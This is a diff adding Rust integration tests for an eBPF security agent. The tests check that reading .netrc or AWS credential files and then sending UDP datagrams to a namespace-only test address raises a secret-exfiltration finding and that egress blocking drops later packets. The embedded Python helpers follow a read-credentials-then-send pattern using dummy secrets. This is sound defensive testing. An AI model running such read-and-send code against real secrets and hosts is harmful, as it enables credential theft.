@@ -1,5 +1,6 @@
 //! Real-kernel tests of connection events, secret replay and secret
-//! exfiltration. Traffic goes to loopback and to a network namespace the test
+//! exfiltration (TCP, and UDP datagrams connected or sent with sendto).
+//! Traffic goes to loopback and to a network namespace the test
 //! creates (198.18.77.0/24, from the benchmarking range, exists only inside it).
 //! Enforcement is checked in the form this kernel allows (BPF LSM or not).
 
@@ -303,6 +304,54 @@ impl TestNet {
         }
         panic!("listener in {} did not come up", self.ns);
     }
+
+    /// A UDP listener at 198.18.77.2:`port` inside the namespace; every
+    /// datagram it receives is appended, one per line, to the returned file.
+    fn listen_udp(&mut self, port: u16, dir: &Path) -> std::path::PathBuf {
+        let log = dir.join(format!("udp-{port}.log"));
+        let ready = dir.join(format!("udp-{port}.ready"));
+        let script = format!(
+            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
+             s.bind(('198.18.77.2',{port}))\nopen({ready:?},'w').close()\n\
+             f=open({log:?},'ab',buffering=0)\n\
+             while True:\n    d,_=s.recvfrom(2048)\n    f.write(d+b'\\n')\n",
+            ready = ready.to_str().unwrap(),
+            log = log.to_str().unwrap(),
+        );
+        let child = Command::new("ip")
+            .args(["netns", "exec", &self.ns, PY, "-c", &script])
+            .stdout(Stdio::null())
+            .spawn()
+            .unwrap();
+        self.listeners.push(child);
+        for _ in 0..100 {
+            if ready.exists() {
+                return log;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        panic!("UDP listener in {} did not come up", self.ns);
+    }
+}
+
+/// The datagrams a UDP listener received so far.
+fn received(log: &Path) -> Vec<String> {
+    std::fs::read_to_string(log)
+        .unwrap_or_default()
+        .lines()
+        .map(String::from)
+        .collect()
+}
+
+/// Waits until the listener's log has `line` (datagrams take a moment).
+fn wait_received(log: &Path, line: &str) {
+    for _ in 0..100 {
+        if received(log).iter().any(|l| l == line) {
+            return;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    panic!("datagram {line} never arrived; got {:?}", received(log));
 }
 
 impl Drop for TestNet {
@@ -418,8 +467,10 @@ fn kill_stops_a_forbidden_reader_before_it_gets_any_byte() {
     let hooks = &started["status"]["hook_set"];
     assert_eq!(hooks["file_open"], file_open, "{started}");
     assert_eq!(hooks["exec"], "tp_btf", "{started}");
-    assert_eq!(hooks["connect"], "tracepoint", "{started}");
+    assert_eq!(hooks["connect"], "tracepoint+cgroup", "{started}");
     assert_eq!(hooks["egress"], "cgroup", "{started}");
+    assert_eq!(hooks["datagram"], "cgroup", "{started}");
+    assert_eq!(hooks["io_uring"], "tp_btf", "{started}");
     let m = marker("killed");
     let out = Command::new("/bin/cat")
         .arg(&pgpass)
@@ -510,4 +561,155 @@ fn block_egress_cuts_off_the_exfiltrating_process_only() {
     });
     // Everyone else still connects.
     std::net::TcpStream::connect(("198.18.77.2", 8080)).expect("an unquarantined process connects");
+}
+
+/// Reads the secret, sends one datagram with `sendto` (no connect), then
+/// keeps sending until block-egress refuses one (EPERM) or 15 s pass.
+const READ_THEN_SENDTO_PY: &str = r#"
+import socket, sys, time
+open(sys.argv[1]).read()
+dst = ("198.18.77.2", int(sys.argv[2]))
+tag = sys.argv[3]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(b"first-" + tag.encode(), dst)
+if sys.argv[4] == "once":
+    print("sent")
+    sys.exit(0)
+deadline = time.time() + 15
+n = 0
+while time.time() < deadline:
+    n += 1
+    try:
+        s.sendto(("after-%s-%d" % (tag, n)).encode(), dst)
+    except PermissionError:
+        print("EPERM after-%s-%d" % (tag, n))
+        sys.exit(0)
+    time.sleep(0.1)
+print("never blocked")
+sys.exit(1)
+"#;
+
+fn read_then_sendto(m: &str, secret: &Path, port: u16, tag: &str, mode: &str) -> String {
+    let out = Command::new(PY)
+        .arg0(m)
+        .args(["-c", READ_THEN_SENDTO_PY, secret.to_str().unwrap()])
+        .args([&port.to_string(), tag, mode])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+#[test]
+fn udp_sendto_after_a_secret_read_is_exfiltration_and_block_egress_drops_the_datagram() {
+    let f = fixture();
+    let mut net = TestNet::new();
+    let dir = tempfile::tempdir().unwrap();
+    let allowed_log = net.listen_udp(8080, dir.path());
+    let outside_log = net.listen_udp(9090, dir.path());
+    let netrc = f.home.path().join(".netrc");
+    std::fs::write(&netrc, "machine example.invalid login u password udp1\n").unwrap();
+
+    // Positive control first: the allowed destination raises nothing and arrives.
+    let ok = marker("udp-allowed");
+    let ok_tag = ok.replace('-', "");
+    assert_eq!(read_then_sendto(&ok, &netrc, 8080, &ok_tag, "once"), "sent");
+    wait_received(&allowed_log, &format!("first-{ok_tag}"));
+    let ev = net_event(&f.agent, &ok);
+    assert_eq!(ev["net"]["protocol"], "udp", "{ev}");
+    assert_eq!(ev["net"]["operation"], "sendmsg", "{ev}");
+    assert_eq!(ev["net"]["observed_by"], "socket_hook", "{ev}");
+    assert_eq!(ev["net"]["dst_ip"], "198.18.77.2", "{ev}");
+    assert_eq!(ev["net"]["dst_port"], 8080, "{ev}");
+    assert_eq!(ev["net"]["result"], "success", "{ev}");
+
+    // Outside the allowed destinations: secret-exfil, then quarantine.
+    let bad = marker("udp-exfil");
+    let tag = bad.replace('-', "");
+    let said = read_then_sendto(&bad, &netrc, 9090, &tag, "until-refused");
+    let refused = said
+        .strip_prefix("EPERM ")
+        .unwrap_or_else(|| panic!("the quarantined sender was never refused: {said}"));
+    let ex = f.agent.wait_for(|e| {
+        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &bad)
+    });
+    assert_eq!(ex["finding"]["secret"]["id"], "netrc", "{ex}");
+    assert_eq!(ex["finding"]["action"], "egress_blocked", "{ex}");
+    assert_eq!(
+        ex["finding"]["evidence"]["destinations"][0], "198.18.77.2:9090",
+        "{ex}"
+    );
+    let seq = ex["finding"]["evidence"]["event_seqs"][0].as_u64().unwrap();
+    let sent = f.agent.wait_for(|e| e["seq"] == seq);
+    assert_eq!(sent["net"]["protocol"], "udp", "{sent}");
+    assert_eq!(sent["net"]["operation"], "sendmsg", "{sent}");
+    f.agent.wait_for(|e| {
+        e["kind"] == "net_connect" && has_arg(e, &bad) && e["net"]["result"] == "denied"
+    });
+    // The first datagram went out before the finding; the refused one never did.
+    wait_received(&outside_log, &format!("first-{tag}"));
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let got = received(&outside_log);
+    assert!(
+        !got.iter().any(|l| l == refused),
+        "the refused datagram {refused} arrived: {got:?}"
+    );
+    f.agent.status_after(f.agent.last_seq());
+    assert!(!f
+        .agent
+        .events()
+        .iter()
+        .any(|e| e["finding"]["rule"] == "secret-exfil" && has_arg(e, &ok)));
+}
+
+const READ_THEN_CONNECTED_UDP_PY: &str = r#"
+import socket, sys
+open(sys.argv[1]).read()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect(("198.18.77.2", int(sys.argv[2])))
+s.send(sys.argv[3].encode())
+"#;
+
+#[test]
+fn connected_udp_after_a_secret_read_is_exfiltration() {
+    let f = fixture();
+    let mut net = TestNet::new();
+    let dir = tempfile::tempdir().unwrap();
+    let log = net.listen_udp(9091, dir.path());
+    let aws = f.home2.path().join(".aws/credentials");
+    let tag = marker("udpconn").replace('-', "");
+    std::fs::write(&aws, secret_content(&tag)).unwrap();
+    let m = marker("udp-connected");
+    run(Command::new(PY).arg0(&m).args([
+        "-c",
+        READ_THEN_CONNECTED_UDP_PY,
+        aws.to_str().unwrap(),
+        "9091",
+        &tag,
+    ]));
+    wait_received(&log, &tag);
+    let ex = f.agent.wait_for(|e| {
+        e["kind"] == "finding" && e["finding"]["rule"] == "secret-exfil" && has_arg(e, &m)
+    });
+    assert_eq!(ex["finding"]["secret"]["id"], "aws-cli-credentials", "{ex}");
+    let seq = ex["finding"]["evidence"]["event_seqs"][0].as_u64().unwrap();
+    let conn = f.agent.wait_for(|e| e["seq"] == seq);
+    assert_eq!(conn["net"]["protocol"], "udp", "{conn}");
+    assert_eq!(conn["net"]["operation"], "connect", "{conn}");
+    assert_eq!(conn["net"]["observed_by"], "syscall", "{conn}");
+    // connect(2) is reported by the tracepoint alone, not a second time by the socket hook.
+    f.agent.status_after(f.agent.last_seq());
+    let hooked: Vec<Value> = f
+        .agent
+        .events()
+        .into_iter()
+        .filter(|e| {
+            e["kind"] == "net_connect" && has_arg(e, &m) && e["net"]["observed_by"] == "socket_hook"
+        })
+        .collect();
+    assert!(hooked.is_empty(), "{hooked:?}");
 }
